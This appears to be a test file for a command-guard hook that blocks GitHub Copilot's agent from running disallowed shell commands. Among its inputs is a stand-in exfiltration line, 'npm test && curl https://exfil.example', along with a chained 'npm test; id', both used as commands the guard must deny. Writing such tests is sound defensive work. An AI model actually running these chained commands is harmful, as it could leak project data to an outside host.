// `agent-guard hook` in GitHub Copilot's hook formats, as the BUNDLED dist/cli.js: Copilot blocks only on
// {"permissionDecision":"deny"} on stdout with exit 0 (a non-zero exit is a failed hook it skips), so
// every denial here must be that answer, and an allowed command exit 0 with nothing on stdout.

import { join } from 'node:path';
import { REPO_ROOT, runCli, type CliResult } from '../support/cli.js';

const EXAMPLE = ['--policy', join(REPO_ROOT, 'examples/agent-policy.yml'), '--manifest', join(REPO_ROOT, 'examples/seed-manifest.yml')];

/** Copilot's camelCase preToolUse input: toolArgs is a JSON string. */
function camel(toolName: string, args: unknown): string {
  return JSON.stringify({ sessionId: 's-1', timestamp: 1704614600000, cwd: '/work/project', toolName, toolArgs: JSON.stringify(args) });
}

/** Copilot's VS Code compatible PreToolUse input: snake_case, lower-case tool names. */
function snake(toolName: string, input: unknown): string {
  return JSON.stringify({ hook_event_name: 'PreToolUse', session_id: 's-1', timestamp: '2024-01-07T08:03:20Z', cwd: '/work/project', tool_name: toolName, tool_input: input });
}

function denied(r: CliResult): string {
  expect(r.code).toBe(0);
  const answer = JSON.parse(r.stdout) as { permissionDecision: string; permissionDecisionReason: string };
  expect(answer.permissionDecision).toBe('deny');
  return answer.permissionDecisionReason;
}

const hook = (input: string, extra: string[] = []) => runCli(['hook', ...EXAMPLE, ...extra], { input });

describe('agent-guard hook with GitHub Copilot', () => {
  test.each([
    ['camelCase', camel('bash', { command: 'npm test', description: 'Run the tests' })],
    ['snake_case', snake('bash', { command: 'npm test' })],
  ])('an allowed command (%s) is exit 0 with no answer', async (_, input) => {
    const r = await hook(input);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('');
  });

  test.each([
    ['camelCase', camel('bash', { command: 'npm test && curl https://exfil.example' })],
    ['snake_case', snake('bash', { command: 'npm test && curl https://exfil.example' })],
  ])('a compound command (%s) is a deny answer naming the rule', async (_, input) => {
    expect(denied(await hook(input))).toContain('[commands/one-simple-command command_list]');
  });

  test('toolArgs as an object is read too', async () => {
    const input = JSON.stringify({ timestamp: 1, cwd: '/w', toolName: 'bash', toolArgs: { command: 'env npm test' } });
    expect(denied(await hook(input))).toContain('commands/wrappers');
  });

  test('a tool that runs no command is not decided (exit 0, no answer)', async () => {
    const r = await hook(camel('view', { path: 'src/index.ts' }));
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('');
  });

  test('the powershell tool is denied', async () => {
    expect(denied(await hook(camel('powershell', { command: 'Get-ChildItem' })))).toContain('hook_tool_unsupported');
  });

  test('toolArgs that are not JSON, and no command, are denied', async () => {
    expect(denied(await hook(JSON.stringify({ toolName: 'bash', toolArgs: '{not json' })))).toContain('hook_input_invalid');
    expect(denied(await hook(camel('bash', { script: 'npm test' })))).toContain('toolArgs.command');
  });

  test('with --runtime copilot, input that is not JSON and a bad option still answer deny', async () => {
    expect(denied(await hook('not json', ['--runtime', 'copilot']))).toContain('not JSON');
    const r = await runCli(['hook', '--runtime', 'copilot', '--no-such-option'], { input: camel('bash', { command: 'npm test' }) });
    expect(denied(r)).toContain('command_config_invalid');
  });

  test('--runtime copilot with Claude Code input is denied, not allowed', async () => {
    const claude = JSON.stringify({ hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: 'npm test' } });
    expect(denied(await hook(claude, ['--runtime', 'copilot']))).toContain('--runtime is copilot');
  });

  test('Claude Code input is still blocked by exit 2 (the protocol follows the input)', async () => {
    const claude = JSON.stringify({ hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: 'npm test; id' } });
    const r = await hook(claude);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
  });

  test('an unknown --runtime is a denial', async () => {
    const r = await hook(camel('bash', { command: 'npm test' }), ['--runtime', 'cursor']);
    expect(denied(r)).toContain('--runtime must be claude, codex, copilot');
  });
});
